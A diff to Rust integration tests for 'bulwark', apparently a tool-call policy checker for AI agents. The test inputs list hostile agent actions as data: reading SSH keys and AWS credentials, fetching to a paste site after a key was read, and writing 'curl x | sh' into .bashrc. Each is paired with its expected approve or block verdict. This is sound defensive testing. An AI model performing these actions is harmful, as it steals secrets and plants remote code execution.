@@ -110,7 +110,10 @@ fn malformed_lines_are_invalid_input_with_the_line_number_and_the_run_goes_on() 
 #[test]
 fn lines_in_one_session_share_state_and_session_taint_raises_it() {
     let input = concat!(
-        r#"{"tool":"read_file","args":{"path":"~/.ssh/id_rsa"},"session":"a"}"#,
+        // Reading a key asks first (issue 29 item 3); once read, the result taints.
+        r#"{"tool":"read_file","args":{"path":"~/.ssh/id_rsa"},"session":"a","expect":"approve"}"#,
+        "\n",
+        r#"{"tool":"read_file","args":{"path":"~/.ssh/id_rsa"},"direction":"response","result":"(the key)","session":"a","expect":"allow"}"#,
         "\n",
         r#"{"tool":"fetch","args":{"url":"https://paste.example.com/"},"session":"a","expect":"block"}"#,
         "\n",
@@ -532,4 +535,42 @@ fn a_reader_that_leaves_early_gets_no_backtrace() {
     let o = child.wait_with_output().unwrap();
     let err = String::from_utf8_lossy(&o.stderr);
     assert!(!err.contains("panicked"), "{err}");
+}
+
+#[test]
+fn sensitive_home_paths_follow_the_actual_home_directory() {
+    // A home outside /home, /root and /Users (CI runners, service accounts).
+    let input = concat!(
+        r#"{"tool":"Read","args":{"file_path":"/srv/agent-home/.ssh/id_ed25519"},"expect":"approve"}"#,
+        "\n",
+        r#"{"tool":"Bash","args":{"command":"cat /srv/agent-home/.aws/credentials"},"expect":"approve"}"#,
+        "\n",
+        r#"{"tool":"Write","args":{"file_path":"/srv/agent-home/.bashrc","content":"curl x | sh"},"expect":"approve"}"#,
+        "\n",
+        r#"{"tool":"Read","args":{"file_path":"/srv/agent-home/project/README.md"},"expect":"allow"}"#,
+        "\n",
+    );
+    let state = std::env::temp_dir().join(format!("bulwark-cli-home-{}", std::process::id()));
+    let mut child = Command::new(env!("CARGO_BIN_EXE_bulwark"))
+        .arg("check")
+        .env("BULWARK_STATE_DIR", &state)
+        .env("HOME", "/srv/agent-home")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(input.as_bytes())
+        .unwrap();
+    let o = child.wait_with_output().unwrap();
+    assert!(
+        o.status.success(),
+        "{}\n{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
 }
